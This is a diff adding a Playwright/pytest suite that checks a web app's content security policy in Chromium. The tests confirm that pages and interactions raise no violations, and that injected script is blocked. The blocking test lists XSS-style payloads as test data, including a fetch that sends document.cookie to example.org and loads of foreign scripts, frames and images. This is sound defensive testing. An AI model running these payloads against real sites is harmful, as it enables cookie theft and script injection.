@@ -1,0 +1,79 @@
+"""The content security policy in a real Chromium: every page works under it, and it stops what it is there to stop."""
+
+import pytest
+
+from tests.browser.conftest import PATIENCE, settle, until
+from tests.browser.test_pages import PAGES
+
+LISTENER = (
+    "document.addEventListener('securitypolicyviolation', event => window.violated(event.violatedDirective + ' ' + event.blockedURI))"
+)
+DATA = {"record": "", "exercise": "dataset=exercise"}
+
+
+@pytest.fixture(scope="module")
+def window(chromium):
+    """One window in which the browser's own reports of violations are collected."""
+    context = chromium.new_context(viewport={"width": 1440, "height": 900})
+    context.set_default_timeout(PATIENCE)
+    found: list[str] = []
+    context.expose_function("violated", lambda text: found.append(text))
+    context.add_init_script(LISTENER)
+    page = context.new_page()
+    page.on("console", lambda message: found.append(message.text) if "Content Security Policy" in message.text else None)
+    yield page, found
+    context.close()
+
+
+@pytest.mark.parametrize("data", DATA)
+@pytest.mark.parametrize("path", PAGES)
+def test_no_page_breaks_the_policy_under_which_it_is_sent(window, address, path, data):
+    page, found = window
+    found.clear()
+    sent = page.goto(f"{address}{path}{'&' if '?' in path else '?'}{DATA[data]}")
+    settle(page)
+    assert "script-src 'self' blob: 'wasm-unsafe-eval' 'sha256-" in sent.headers["content-security-policy"]
+    assert page.locator("h1").count() >= 1
+    assert found == []
+
+
+def test_using_a_page_breaks_no_policy_either(window, address):
+    page, found = window
+    page.goto(f"{address}/overview?lang=en")
+    settle(page)
+    found.clear()
+    before = page.locator('[data-testid="stMetricValue"]').first.inner_text()
+    page.locator('[data-testid="stMultiSelect"]').first.locator("input").fill("Ecuador")
+    page.keyboard.press("Enter")
+    until(page, "location.search.includes('country=ECU')")
+    page.keyboard.press("Escape")
+    settle(page)
+    assert page.locator('[data-testid="stMetricValue"]').first.inner_text() != before
+    with page.expect_download() as waiting:
+        page.locator('[data-testid="stDownloadButton"] button').first.click()
+    assert waiting.value.suggested_filename.endswith(".csv")
+    assert found == []
+
+
+@pytest.mark.parametrize(
+    "attempt",
+    [
+        "document.head.append(Object.assign(document.createElement('script'), {textContent: 'window.ran = 1'}))",
+        "document.head.append(Object.assign(document.createElement('script'), {src: 'https://example.org/x.js'}))",
+        "setTimeout('window.ran = 1')",
+        "fetch('https://example.org/?' + document.cookie).catch(() => 0)",
+        "document.body.append(Object.assign(document.createElement('img'), {src: 'https://example.org/x.png'}))",
+        "document.body.append(Object.assign(document.createElement('iframe'), {src: 'https://example.org/'}))",
+    ],
+    ids=["inline script", "foreign script", "eval", "sending data away", "foreign image", "foreign frame"],
+)
+def test_the_policy_stops_what_an_injected_script_would_do(window, address, attempt):
+    page, found = window
+    if not page.url.startswith(f"{address}/method"):
+        page.goto(f"{address}/method?lang=en")
+        settle(page)
+    found.clear()
+    page.evaluate(f"() => {{ {attempt} }}")
+    page.wait_for_timeout(300)
+    assert found
+    assert not page.evaluate("window.ran")
